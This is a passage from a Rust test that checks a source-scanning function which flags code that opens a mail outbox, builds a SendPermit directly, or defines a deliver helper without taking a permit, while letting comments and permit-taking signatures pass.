        bad("tools/x.rs", r#"let d = root.open_dir("outbox");"#).len(),
        1
    );
    assert_eq!(
        bad(
            "tools/x.rs",
            "let p = SendPermit { message, _private: () };"
        )
        .len(),
        1
    );
    // Prose in comments does not count; a real signature with a permit passes.
    assert!(bad("tools/x.rs", "// AsyncSmtpTransport lives in smtp.rs\n").is_empty());
    assert!(
        bad(
            "backends/y.rs",
            "pub(crate) async fn send(&self, permit: SendPermit) -> R {"
        )
        .is_empty()
    );
    // No exemption exists: a `deliver` without a permit is flagged in every file.
    let helper = "fn deliver(dir: &Dir, raw: &[u8], secs: i64) -> R {";
    for file in ["backends/maildir.rs", "backends/outbox.rs"] {
        assert_eq!(bad(file, helper).len(), 1, "{file}");
        assert_eq!(
            bad(file, &format!("pub(crate) {helper}")).len(),
            1,
            "{file}"
        );
    }
}
